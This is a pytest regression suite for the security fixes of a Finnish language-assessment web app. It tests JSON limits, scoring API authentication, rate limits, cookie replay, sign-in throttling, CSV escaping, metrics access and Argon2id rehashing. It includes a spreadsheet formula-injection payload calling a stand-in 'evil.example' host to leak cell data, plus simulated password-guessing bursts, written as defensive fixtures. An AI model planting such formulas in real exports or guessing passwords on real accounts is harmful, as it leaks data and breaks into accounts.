"""Regression tests of the security findings of issue 15, through the suite's gateway."""
from __future__ import annotations

import pytest

from services.gateway import create_app as suite

from .conftest import seeded_config


@pytest.fixture
def sqlite_config(tmp_path):
    return seeded_config(tmp_path, f"sqlite:///{tmp_path / 'tt.db'}", None)


@pytest.fixture
def gateway(sqlite_config):
    app = suite(sqlite_config)
    yield app
    app.extensions["taitotaso.resources"].db.dispose()


DEEP = "[" * 100_000 + "]" * 100_000
SURROGATE = '{"answer": "Hei \\ud800 maailma", "prompt_text": "Kerro"}'
JSON_PATHS = ["/api/v1/sessions", "/api/v1/scoring/writing", "/api/v1/results/shares",
              "/authoring/api/v1/items", "/authoring/api/v1/auth/sign-in"]


@pytest.mark.parametrize("path", JSON_PATHS)
@pytest.mark.parametrize("body,words", [(DEEP, "nested too deeply"), (SURROGATE, "surrogate")])
def test_deep_json_and_lone_surrogates_get_a_400_with_a_message(gateway, path, body, words):
    r = gateway.test_client().post(path, data=body, content_type="application/json")
    assert r.status_code == 400, (path, r.status_code, r.data[:200])
    assert words in r.json["message"]


# -- the scoring API: credentials, rate limits, the session's token, retention ---------------
from datetime import timedelta  # noqa: E402

from .conftest import GOOD_TEXT, SCORING_AUTH, SCORING_SECRET  # noqa: E402

PROMPT = "Kerro, millainen oli ensimmäinen työpäiväsi Suomessa."


def _wav() -> bytes:
    from scoring.speech import synthetic as sy

    return sy.to_wav_bytes(sy.silence(3.0))


@pytest.mark.parametrize("headers", [{}, {"Authorization": "Bearer not-the-secret"},
                                     {"Authorization": f"Basic {SCORING_SECRET}"}])
def test_anonymous_callers_of_the_scoring_api_get_401(gateway, headers):
    import io

    client = gateway.test_client()
    r = client.post("/api/v1/scoring/writing", json={"prompt_text": PROMPT, "answer": GOOD_TEXT},
                    headers=headers)
    assert r.status_code == 401 and "Authorization: Bearer" in r.json["message"]
    r = client.post("/api/v1/scoring/speech", headers=headers, content_type="multipart/form-data",
                    data={"prompt_text": "Kerro.", "audio": (io.BytesIO(_wav()), "a.wav")})
    assert r.status_code == 401
    from services.scoring.orm import ScoreReview, SpeechJob

    with gateway.extensions["taitotaso.resources"].db.session() as s:   # nothing was kept
        assert s.query(SpeechJob).count() == 0 and s.query(ScoreReview).count() == 0


def test_a_service_with_its_credentials_is_scored(gateway):
    r = gateway.test_client().post("/api/v1/scoring/writing", headers=SCORING_AUTH,
                                   json={"prompt_text": PROMPT, "answer": GOOD_TEXT})
    assert r.status_code == 200 and r.json["cefr"]


def test_uploads_are_rate_limited_per_caller(tmp_path):
    config = seeded_config(tmp_path, f"sqlite:///{tmp_path / 'tt.db'}", None,
                           scoring_uploads_per_minute=2)
    client = suite(config).test_client()
    body = {"prompt_text": PROMPT, "answer": "Hei, minä olen Olga."}
    codes = [client.post("/api/v1/scoring/writing", headers=SCORING_AUTH, json=body).status_code
             for _ in range(3)]
    assert codes == [200, 200, 429]
    r = client.post("/api/v1/scoring/writing", headers=SCORING_AUTH, json=body)
    assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0 and "try again" in r.json["message"]


def test_speech_uploads_count_against_the_same_limit(tmp_path):
    """Speech uploads are limited per caller as writing answers are, and share one count:
    a refused recording (here not a recording at all) counts too, and the 429 comes
    before the upload is read."""
    import io

    config = seeded_config(tmp_path, f"sqlite:///{tmp_path / 'tt.db'}", None,
                           scoring_uploads_per_minute=2)
    client = suite(config).test_client()
    body = {"prompt_text": PROMPT, "answer": "Hei, minä olen Olga."}
    assert client.post("/api/v1/scoring/writing", headers=SCORING_AUTH, json=body).status_code == 200

    def speech():
        return client.post("/api/v1/scoring/speech", headers=SCORING_AUTH,
                           data={"prompt_text": "Kerro itsestäsi.",
                                 "audio": (io.BytesIO(b"not a recording" * 10), "answer.wav")},
                           content_type="multipart/form-data")
    first = speech()
    assert first.status_code not in (200, 202, 429) and first.json["message"]
    refused = speech()
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0


def _session(client) -> tuple[str, str]:
    r = client.post("/api/v1/sessions", json={"ui_language": "fi"})
    assert r.status_code == 201, r.json
    return r.json["id"], r.json["token"]


def _job(db, session_id, *, age_days=0, transcript="Minun nimeni on Olga Petrova") -> str:
    import uuid

    from item_bank.orm import utcnow
    from services.scoring.orm import ScoreReview, SpeechJob

    job_id = str(uuid.uuid4())
    when = utcnow() - timedelta(days=age_days)
    with db.session() as s:
        s.add(SpeechJob(id=job_id, task="open_speaking", session_id=session_id, text="Kerro.",
                        ui_language="fi", audio=b"RIFF" + b"\1" * 4000, duration_s=3.0,
                        status="done", stage="done", progress=1.0, attempts=1, created_at=when,
                        result={"cefr": "A2", "transcript": transcript, "confidence": 0.4,
                                "feedback": [{"code": "skipped_words", "words": ["Olga"]}]}))
        s.add(ScoreReview(kind="speech", session_id=session_id, prompt="Kerro.", answer=transcript,
                          machine={"transcript": transcript, "job_id": job_id}, confidence=0.4,
                          created_at=when))
    return job_id


def test_a_scoring_job_needs_its_sessions_token(gateway):
    client = gateway.test_client()
    db = gateway.extensions["taitotaso.resources"].db
    mine, token = _session(client)
    _other, other_token = _session(client)
    job_id = _job(db, mine)
    path = f"/api/v1/scoring/jobs/{job_id}"
    assert client.get(path).status_code == 401
    for wrong in (other_token, "x" * 40):
        r = client.get(path, headers={"Authorization": f"Bearer {wrong}"})
        assert r.status_code == 404 and "Olga" not in r.get_data(as_text=True)
    # an unknown id answers as a job of another session: ids cannot be probed
    r = client.get("/api/v1/scoring/jobs/no-such-job", headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 404
    r = client.get(path, headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 200 and r.json["result"]["transcript"].startswith("Minun")
    assert client.get(path, headers=SCORING_AUTH).status_code == 200


def test_recordings_and_transcripts_older_than_the_retention_period_are_deleted(
        gateway, sqlite_config, monkeypatch, capsys):
    from services.cli import main
    from services.scoring.orm import ScoreReview, SpeechJob
    from services.scoring.retention import purge_recordings

    db = gateway.extensions["taitotaso.resources"].db
    sid, _ = _session(gateway.test_client())
    old, new = _job(db, sid, age_days=31), _job(db, sid, age_days=1, transcript="Tuore vastaus")
    monkeypatch.setenv("DATABASE_URL", sqlite_config.database_url)
    monkeypatch.setenv("TAITOTASO_VAR_DIR", str(sqlite_config.var_dir))
    monkeypatch.setenv("TAITOTASO_RECORDING_RETENTION_DAYS", "30")
    assert main(["recordings", "purge"]) == 0
    assert "of 1 spoken answers older than 30 days" in capsys.readouterr().out
    with db.session() as s:
        o, n = s.get(SpeechJob, old), s.get(SpeechJob, new)
        assert o.audio == b"" and "transcript" not in o.result and o.result["cefr"] == "A2"
        assert "Olga" not in repr(o.result)
        assert n.audio.startswith(b"RIFF") and n.result["transcript"] == "Tuore vastaus"
        answers = {r.answer for r in s.query(ScoreReview)}
        assert answers == {"", "Tuore vastaus"}
        assert not any("Olga" in repr(r.machine) for r in s.query(ScoreReview))
    assert purge_recordings(db, 30) == 0
    assert purge_recordings(db, 1) == 1   # a shorter period reaches the newer one too


def test_the_retention_period_comes_from_the_configuration(monkeypatch, tmp_path):
    from services.common.config import Config

    monkeypatch.setenv("TAITOTASO_RECORDING_RETENTION_DAYS", "14")
    monkeypatch.setenv("TAITOTASO_VAR_DIR", str(tmp_path))
    assert Config.from_env().recording_retention_days == 14
    monkeypatch.setenv("TAITOTASO_RECORDING_RETENTION_DAYS", "0")
    with pytest.raises(SystemExit, match="RETENTION"):
        Config.from_env()


# -- cookies: lifetime, Secure, sessions kept on the server ---------------------------------
from services.common.accounts import create_staff  # noqa: E402
from services.common.sessions import KEY_PREFIX  # noqa: E402

from .conftest import confirm_sign_up, csrf  # noqa: E402

STAFF_PASSWORD = "lumi-kallio-katto-88"
SEEKER_PASSWORD = "correct horse battery"


def _staff_client(app, email="reviewer@example.fi", roles=("reviewer",)):
    create_staff(app.extensions["taitotaso.resources"].db, email, "Reviewer", list(roles),
                 STAFF_PASSWORD)
    client = app.test_client()
    r = client.post("/authoring/api/v1/auth/sign-in", json={"email": email, "password": STAFF_PASSWORD})
    assert r.status_code == 200, r.json
    return client


def _replay(app, name, value):
    other = app.test_client()
    other.set_cookie(name, value)
    return other


def test_sessions_last_hours_not_flasks_31_days(sqlite_config):
    from services.scoring.app import create_app as scoring_app
    from services.testing.app import create_app as testing_app

    for factory in (scoring_app, testing_app):
        app = factory(sqlite_config)
        assert app.permanent_session_lifetime <= timedelta(hours=10)


def test_a_staff_cookie_copied_before_sign_out_is_worth_nothing_after(gateway):
    client = _staff_client(gateway)
    copy = client.get_cookie("taitotaso_staff").value
    assert client.get("/api/v1/scoring/reviews").status_code == 200
    assert client.post("/authoring/api/v1/auth/sign-out").status_code == 204
    thief = _replay(gateway, "taitotaso_staff", copy)
    assert thief.get("/api/v1/scoring/reviews").status_code == 401
    assert thief.get("/authoring/api/v1/auth/me").status_code == 401


def test_signing_out_of_the_coach_pages_ends_the_staff_session_on_the_server(gateway):
    client = _staff_client(gateway, "coach@example.fi", roles=("coach",))
    copy = client.get_cookie("taitotaso_staff").value
    page = client.get("/results/coach/")
    assert page.status_code == 200
    r = client.post("/results/coach/sign-out", data={"_csrf": csrf(page.text)})
    assert r.status_code == 302
    r = _replay(gateway, "taitotaso_staff", copy).get("/results/coach/")
    assert r.status_code == 302 and "sign-in" in r.location


def _seeker(app, email):
    client = app.test_client()
    page = client.get("/results/en/sign-up")
    r = client.post("/results/en/sign-up", data={
        "_csrf": csrf(page.text), "email": email, "password": SEEKER_PASSWORD,
        "password_again": SEEKER_PASSWORD, "display_name": "Olga"})
    assert r.status_code == 200, r.text
    assert confirm_sign_up(client, app, email).status_code == 303   # the link in the mail
    return client


def _sign_in_seeker(app, email):
    client = app.test_client()
    page = client.get("/results/en/sign-in")
    r = client.post("/results/en/sign-in", data={"_csrf": csrf(page.text), "email": email,
                                                  "password": SEEKER_PASSWORD})
    assert r.status_code == 303
    return client


def test_a_job_seekers_cookie_copied_before_sign_out_is_worth_nothing_after(gateway):
    client = _seeker(gateway, "olga.signout@example.fi")
    copy = client.get_cookie("session").value
    assert client.get("/results/en/results").status_code == 200
    page = client.get("/results/en/results")
    assert client.post("/results/en/sign-out", data={"_csrf": csrf(page.text)}).status_code == 303
    r = _replay(gateway, "session", copy).get("/results/en/results")
    assert r.status_code == 302 and "/sign-in" in r.location


def test_deleting_an_account_ends_its_sessions_in_every_browser(gateway):
    email = "olga.delete@example.fi"
    phone = _seeker(gateway, email)
    laptop = _sign_in_seeker(gateway, email)
    laptop_sid = laptop.get_cookie("session").value
    store = gateway.session_interface
    assert store._retrieve_session_data(KEY_PREFIX + laptop_sid)["_user_id"]
    page = phone.get("/results/en/account/delete")
    r = phone.post("/results/en/account/delete", data={"_csrf": csrf(page.text), "confirm": "yes"})
    assert r.status_code == 303
    assert store._retrieve_session_data(KEY_PREFIX + laptop_sid) is None
    r = laptop.get("/results/en/results")
    assert r.status_code == 302 and "/sign-in" in r.location


@pytest.mark.parametrize("overrides", [{"secure_cookies": True},
                                       {"public_url": "https://taitotaso.example.fi"}])
def test_cookies_are_secure_when_the_suite_is_served_over_https(tmp_path, overrides):
    config = seeded_config(tmp_path, f"sqlite:///{tmp_path / 'tt.db'}", None, **overrides)
    assert config.secure_cookies is True   # the default follows the published address
    client = suite(config).test_client()
    page = client.get("/results/en/sign-up", base_url="https://localhost")
    cookies = page.headers.getlist("Set-Cookie")
    assert cookies and all("Secure" in c and "HttpOnly" in c for c in cookies)


def test_cookies_are_not_marked_secure_for_plain_http_by_default(sqlite_config):
    assert sqlite_config.secure_cookies is False


# -- the sign-in throttle: no race, no lockout by others ------------------------------------
def _sign_in_form(app, address):
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    return client, csrf(client.get("/results/en/sign-in").text)


def test_parallel_sign_ins_get_five_password_checks_not_more(config, monkeypatch):
    import threading

    from services.results import seekers

    app = suite(config)
    _seeker(app, "olga.race@example.fi")
    checks = []
    real = seekers.authenticate

    def counting(db, email, password):
        checks.append(email)
        return real(db, email, password)

    monkeypatch.setattr(seekers, "authenticate", counting)
    forms = [_sign_in_form(app, "203.0.113.7") for _ in range(40)]
    barrier, statuses = threading.Barrier(40), []

    def attempt(client, token):
        barrier.wait()
        r = client.post("/results/en/sign-in", data={"_csrf": token, "email": "olga.race@example.fi",
                                                     "password": "not her password"})
        statuses.append(r.status_code)

    threads = [threading.Thread(target=attempt, args=form) for form in forms]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(checks) == 5                      # the password was checked five times
    assert len(statuses) == 40 and set(statuses) <= {401, 429} and statuses.count(429) >= 35
    # the owner, from her own address, is not locked out by somebody else's guessing
    client, token = _sign_in_form(app, "198.51.100.23")
    r = client.post("/results/en/sign-in", data={"_csrf": token, "email": "olga.race@example.fi",
                                                 "password": SEEKER_PASSWORD})
    assert r.status_code == 303


def test_staff_sign_in_is_throttled_per_address_too(gateway):
    create_staff(gateway.extensions["taitotaso.resources"].db, "author@example.fi", "Author",
                 ["author"], STAFF_PASSWORD)
    attacker = gateway.test_client()
    attacker.environ_base["REMOTE_ADDR"] = "203.0.113.9"
    codes = [attacker.post("/authoring/api/v1/auth/sign-in", json={
        "email": "author@example.fi", "password": f"guess-{i}-guess"}).status_code for i in range(7)]
    assert codes == [401] * 4 + [429] * 3
    owner = gateway.test_client()
    owner.environ_base["REMOTE_ADDR"] = "198.51.100.5"
    assert owner.post("/authoring/api/v1/auth/sign-in", json={
        "email": "author@example.fi", "password": STAFF_PASSWORD}).status_code == 200


def test_many_addresses_together_slow_an_account_down(gateway):
    from services.common.accounts import SignInThrottle

    throttle = SignInThrottle(account_max_failures=12)
    with gateway.test_request_context():
        waits = [throttle.reserve("olga@example.fi", f"10.0.0.{i // 3}") for i in range(15)]
        assert waits[:12] == [0] * 12 and all(w > 0 for w in waits[12:])
        assert throttle.reserve("someone.else@example.fi", "10.0.0.1") == 0


# -- Katso's stats.csv: curators' captions are text, never formulas --------------------------
def test_katso_stats_csv_writes_formula_like_captions_as_text(tmp_path):
    import csv
    import io

    from sqlalchemy import select

    from services.common.config import Config
    from services.common.db import Database
    from services.library.content import load_seed
    from services.library.orm import LibraryCard
    from services.library.repository import LibraryStore

    config = Config.from_env(database_url=f"sqlite:///{tmp_path / 'k.db'}", redis_url=None,
                             var_dir=tmp_path, secret_key="test-secret", testing=True)
    db = Database(config.database_url)
    db.upgrade()
    LibraryStore(db).seed(load_seed())
    create_staff(db, "curator@example.fi", "Curator", ["curator"], STAFF_PASSWORD)
    evil = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    with db.session() as s:
        card = s.scalar(select(LibraryCard).where(LibraryCard.slug == "candle"))
        card.caption = {**card.caption, "en": evil, "fi": evil}
    app = suite(config)
    app.test_client().get("/katso/fi/cards/candle")
    client = app.test_client()
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en"
    page = client.get("/authoring/sign-in")
    client.post("/authoring/sign-in", data={"email": "curator@example.fi", "password": STAFF_PASSWORD,
                                            "_csrf": csrf(page.text)})
    body = client.get("/katso/staff/stats.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    candle = next(r for r in rows if r[0] == "card:candle")
    assert candle[2] == "'" + evil and candle[3] == "1"
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("cell,expected", [
    ("=1+1", "'=1+1"), ("  =cmd", "'  =cmd"), ("+358", "'+358"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTab", "'\tTab"), ("Kynttilä", "Kynttilä"), (3, 3), (None, "")])
def test_spreadsheet_cells(cell, expected):
    from services.common.spreadsheet import safe_cell

    assert safe_cell(cell) == expected


# -- /metrics only from inside ---------------------------------------------------------------
@pytest.mark.parametrize("path", ["/metrics", "/results/metrics", "/authoring/metrics"])
def test_metrics_through_the_gateway_are_refused(gateway, path):
    client = gateway.test_client()
    assert client.get(path).status_code == 200            # Prometheus, inside the cluster
    r = client.get(path, headers={"X-Forwarded-For": "198.51.100.7"})   # via nginx / Ingress
    assert r.status_code == 403 and "cluster" in r.get_data(as_text=True)
    r = client.get(path, environ_base={"REMOTE_ADDR": "8.8.8.8"})   # a public address
    assert r.status_code == 403


def test_metrics_with_a_configured_token(tmp_path):
    config = seeded_config(tmp_path, f"sqlite:///{tmp_path / 'tt.db'}", None,
                           metrics_token="scrape-token-0123456789abcdef")
    client = suite(config).test_client()
    assert client.get("/metrics").status_code == 401
    assert client.get("/metrics", headers={"Authorization": "Bearer wrong"}).status_code == 401
    r = client.get("/metrics", headers={"Authorization": "Bearer scrape-token-0123456789abcdef",
                                        "X-Forwarded-For": "198.51.100.7"})
    assert r.status_code == 200 and "taitotaso" in r.text


# -- passwords: a common-password list, Argon2id with rehash at sign-in ----------------------
def _legacy_scrypt(password: str) -> str:
    """A hash as the suite stored them before Argon2id."""
    import base64
    import hashlib
    import os

    salt = os.urandom(16)
    digest = hashlib.scrypt(password.encode(), salt=salt, n=2**14, r=8, p=1, dklen=32)
    return f"scrypt${2**14}$8$1${base64.b64encode(salt).decode()}${base64.b64encode(digest).decode()}"


@pytest.mark.parametrize("password,words", [
    ("salasana123", "most common passwords"), ("Password2024!", "most common passwords"),
    ("qwertyuiop", "most common passwords"), ("olga.common.sana", "email address or name"),
    ("short", "at least 10 characters")])
def test_sign_up_refuses_common_and_personal_passwords(gateway, password, words):
    client = gateway.test_client()
    page = client.get("/results/en/sign-up")
    r = client.post("/results/en/sign-up", data={
        "_csrf": csrf(page.text), "email": "olga.common@example.fi", "password": password,
        "password_again": password, "display_name": "Olga"})
    assert r.status_code == 422 and words in r.get_data(as_text=True)


def test_staff_accounts_refuse_common_passwords(sqlite_config):
    from services.common.accounts import AccountError
    from services.common.db import Database

    with pytest.raises(AccountError, match="most common"):
        create_staff(Database(sqlite_config.database_url), "new@example.fi", "New", ["author"],
                     "password123")


def test_old_hashes_are_replaced_with_argon2id_at_sign_in(gateway):
    from sqlalchemy import select

    from services.common.accounts import StaffUser
    from services.results.orm import Identity

    db = gateway.extensions["taitotaso.resources"].db
    create_staff(db, "old.staff@example.fi", "Old", ["author"], STAFF_PASSWORD)
    _seeker(gateway, "olga.old@example.fi")
    with db.session() as s:
        s.scalar(select(StaffUser).where(StaffUser.email == "old.staff@example.fi")).password_hash = \
            _legacy_scrypt(STAFF_PASSWORD)
        s.scalar(select(Identity).where(Identity.subject == "olga.old@example.fi")).secret = \
            _legacy_scrypt(SEEKER_PASSWORD)
    assert gateway.test_client().post("/authoring/api/v1/auth/sign-in", json={
        "email": "old.staff@example.fi", "password": STAFF_PASSWORD}).status_code == 200
    _sign_in_seeker(gateway, "olga.old@example.fi")
    with db.session() as s:
        staff_hash = s.scalar(select(StaffUser.password_hash).where(StaffUser.email == "old.staff@example.fi"))
        seeker_hash = s.scalar(select(Identity.secret).where(Identity.subject == "olga.old@example.fi"))
    assert staff_hash.startswith("$argon2id$") and seeker_hash.startswith("$argon2id$")
    # and the new hashes still sign in
    assert gateway.test_client().post("/authoring/api/v1/auth/sign-in", json={
        "email": "old.staff@example.fi", "password": STAFF_PASSWORD}).status_code == 200
    _sign_in_seeker(gateway, "olga.old@example.fi")


# -- CSRF by Flask-WTF -----------------------------------------------------------------------
def test_forms_without_this_sessions_token_are_refused(gateway):
    mine, other = gateway.test_client(), gateway.test_client()
    page = mine.get("/results/en/sign-in")
    theirs = csrf(other.get("/results/en/sign-in").text)
    form = {"email": "x@example.fi", "password": "whatever-it-is"}
    for token in (None, theirs, "forged"):
        data = form if token is None else {**form, "_csrf": token}
        r = mine.post("/results/en/sign-in", data=data)
        assert r.status_code == 400 and "form has expired" in r.get_data(as_text=True)
    r = mine.post("/results/en/sign-in", data={**form, "_csrf": csrf(page.text)})
    assert r.status_code == 401   # the token is right; the password is not
    from flask_wtf.csrf import CSRFProtect

    assert isinstance(gateway.extensions["csrf"], CSRFProtect)
